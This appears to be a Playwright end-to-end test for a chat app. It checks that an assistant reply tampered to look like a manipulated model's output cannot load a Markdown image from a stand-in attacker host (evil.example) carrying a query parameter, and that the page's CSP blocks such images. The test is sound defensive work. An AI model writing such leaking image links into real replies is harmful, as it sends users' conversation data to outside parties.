import { CHAT } from "../../src/shared/messages/chat";
import { expect, test, VIEWPORTS } from "./fixtures";

// A 1×1 transparent PNG: what an attacker's server would answer if the browser ever asked.
const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=",
  "base64",
);

test("a reply's outside image is fetched neither through the Markdown nor past the CSP", async ({
  page,
  allowConsoleErrors,
}) => {
  // The point of the test: the CSP refuses the outside image, and the browser says so.
  allowConsoleErrors(/Content Security Policy/);
  await page.setViewportSize(VIEWPORTS.desktop);
  const email = `chat.images.${Date.now()}@example.com`;
  await page.request.post("/api/auth/sign-up/email", { data: { email, password: "chat-password-1", name: "" } });
  await page.request.post("/api/me/consent", { data: { consent: true } });
  const { url } = (await (await page.request.post("/api/payments/checkout", { data: {} })).json()) as { url: string };
  await page.request.post(`/api/payments/test-checkout/${url.split("/").at(-1)}/pay`, { data: {} });
  const chat = await page.request.post("/api/chat", { data: { message: "Where should we snorkel?" } });
  const { conversationId } = (await chat.json()) as { conversationId: string };

  // Anything that gets past the page's own rules reaches this handler (and would load).
  const fetched: string[] = [];
  await page.route("https://evil.example/**", async (route) => {
    fetched.push(route.request().url());
    await route.fulfill({ status: 200, contentType: "image/png", body: PIXEL });
  });
  // The stored reply as a manipulated model could have written it.
  await page.route(`**/api/chat/conversations/${conversationId}`, async (route) => {
    const response = await route.fetch();
    const detail = (await response.json()) as { messages: { role: string; content: string }[] };
    const reply = detail.messages.findLast((message) => message.role === "assistant");
    if (reply) {
      reply.content =
        "Try Tunnels Beach ![secret-pixel](https://evil.example/leak.png?q=snorkel) and read [the guide](https://example.org/guide).";
    }
    await route.fulfill({ response, json: detail });
  });

  await page.goto("/chat");
  await page.getByRole("button", { name: CHAT.conversations }).click();
  await page
    .getByRole("complementary", { name: CHAT.conversations })
    .getByRole("button", { name: /^Where should we snorkel/ })
    .click();
  await expect(page.getByText("secret-pixel")).toBeVisible();
  await expect(page.locator('img[src*="evil.example"]')).toHaveCount(0);
  await expect(page.getByRole("link", { name: "the guide" })).toHaveAttribute("rel", "noopener noreferrer");

  // Even an image element that reached the page some other way is refused by the CSP.
  // (A string: the DOM types are not part of the e2e type-check project.)
  const loaded = await page.evaluate(`new Promise((resolve) => {
    const image = new Image();
    image.onload = () => resolve(true);
    image.onerror = () => resolve(false);
    image.src = "https://evil.example/csp.png";
  })`);
  expect(loaded).toBe(false);
  expect(fetched).toEqual([]);
});
